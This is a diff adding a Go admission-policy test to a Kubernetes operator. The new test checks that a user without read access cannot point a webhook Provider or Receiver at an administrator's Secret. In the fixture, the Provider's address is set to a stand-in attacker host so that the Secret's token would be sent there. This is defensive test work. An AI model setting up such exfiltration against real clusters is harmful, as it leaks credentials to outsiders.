@@ -3,6 +3,7 @@ package policy_test
 import (
 	"context"
 	"encoding/json"
+	"fmt"
 	"testing"
 	"time"
 
@@ -17,6 +18,7 @@ import (
 	"sigs.k8s.io/controller-runtime/pkg/client"
 
 	autov1alpha1 "github.com/stackyard/stackyard/api/auto/v1alpha1"
+	notificationv1alpha1 "github.com/stackyard/stackyard/api/notification/v1alpha1"
 	promotionv1alpha1 "github.com/stackyard/stackyard/api/promotion/v1alpha1"
 	"github.com/stackyard/stackyard/api/pulumi/shared"
 	pulumiv1 "github.com/stackyard/stackyard/api/pulumi/v1"
@@ -332,6 +334,53 @@ func TestAttackChecks(t *testing.T) {
 	g.Expect(governor.Patch(ctx, f.prod.DeepCopy(), withCheck(header))).
 		To(MatchError(ContainSubstring(`spec.verification.checks: a header read from a Secret sends the value of that Secret, which needs the verb "get" on the Secret`)))
 	unchanged(t, &promotionv1alpha1.Stage{}, f.prod)
+}
+
+// TestAttackSecretReferences: a user who may create Providers and
+// Receivers, and may not read a Secret, cannot have the operator use it:
+// a Provider would send its token to an address of the user's choosing.
+// Naming a Secret the user may read stays theirs to do, and so does an
+// edit that leaves the spec as it was.
+func TestAttackSecretReferences(t *testing.T) {
+	f := newFixture(t)
+	ctx := context.Background()
+	g := NewWithT(t)
+	mustCreate(t, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: "cloud-admin"}, StringData: map[string]string{"token": "s3cr3t"}})
+	mustCreate(t, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: "hook"}, StringData: map[string]string{"token": "h00k"}})
+	readHook := rbacv1.PolicyRule{APIGroups: []string{""}, Resources: []string{"secrets"}, ResourceNames: []string{"hook"}, Verbs: []string{"get"}}
+	notifications := rbacv1.PolicyRule{APIGroups: []string{notificationv1alpha1.GroupVersion.Group}, Resources: []string{"providers", "receivers"},
+		Verbs: []string{"get", "create", "update", "patch"}}
+	mallory := attacker(t, f.ns, "mallory", notifications, readHook)
+	provider := func(name, secret string) *notificationv1alpha1.Provider {
+		return &notificationv1alpha1.Provider{ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: name}, Spec: notificationv1alpha1.ProviderSpec{
+			Type: notificationv1alpha1.ProviderWebhook, Address: "https://attacker.example.invalid/", SecretRef: &notificationv1alpha1.SecretReference{Name: secret}}}
+	}
+	refusal := `spec.secretRef: the operator uses the Secret cloud-admin on behalf of this %s, which needs the verb "get" on that Secret, which system:serviceaccount:` + f.ns + `:mallory is not allowed`
+	eventually(t, func() error { return mallory.Create(ctx, provider("exfiltrate", "cloud-admin")) }).
+		Should(MatchError(ContainSubstring(fmt.Sprintf(refusal, "Provider"))))
+	receiver := &notificationv1alpha1.Receiver{ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: "oracle"}, Spec: notificationv1alpha1.ReceiverSpec{
+		Type: notificationv1alpha1.ReceiverGeneric, SecretRef: notificationv1alpha1.SecretReference{Name: "cloud-admin"}}}
+	g.Expect(mallory.Create(ctx, receiver)).To(MatchError(ContainSubstring(fmt.Sprintf(refusal, "Receiver"))))
+
+	// The user's own Secret, then a switch to the administrator's.
+	own := provider("own", "hook")
+	g.Expect(mallory.Create(ctx, own)).To(Succeed())
+	g.Expect(mallory.Patch(ctx, own.DeepCopy(), mergePatch(t, map[string]any{"spec": map[string]any{"secretRef": map[string]any{"name": "cloud-admin"}}}))).
+		To(MatchError(ContainSubstring(fmt.Sprintf(refusal, "Provider"))))
+	before := own.DeepCopy()
+	unchanged(t, &notificationv1alpha1.Provider{}, before)
+	g.Expect(mallory.Patch(ctx, own.DeepCopy(), mergePatch(t, map[string]any{"metadata": map[string]any{"labels": map[string]any{"team": "web"}}}))).To(Succeed())
+
+	// A Provider the administrator made with their Secret: its labels stay
+	// the user's to edit, its address does not.
+	admins := provider("admins", "cloud-admin")
+	admins.Spec.Address = "https://hooks.example.invalid/"
+	mustCreate(t, admins)
+	g.Expect(mallory.Patch(ctx, admins.DeepCopy(), mergePatch(t, map[string]any{"metadata": map[string]any{"labels": map[string]any{"team": "web"}}}))).To(Succeed())
+	g.Expect(env.Client.Get(ctx, client.ObjectKeyFromObject(admins), admins)).To(Succeed())
+	g.Expect(mallory.Patch(ctx, admins.DeepCopy(), mergePatch(t, map[string]any{"spec": map[string]any{"address": "https://attacker.example.invalid/"}}))).
+		To(MatchError(ContainSubstring(fmt.Sprintf(refusal, "Provider"))))
+	unchanged(t, &notificationv1alpha1.Provider{}, admins)
 }
 
 // whoAmI is the user name c is authenticated as.
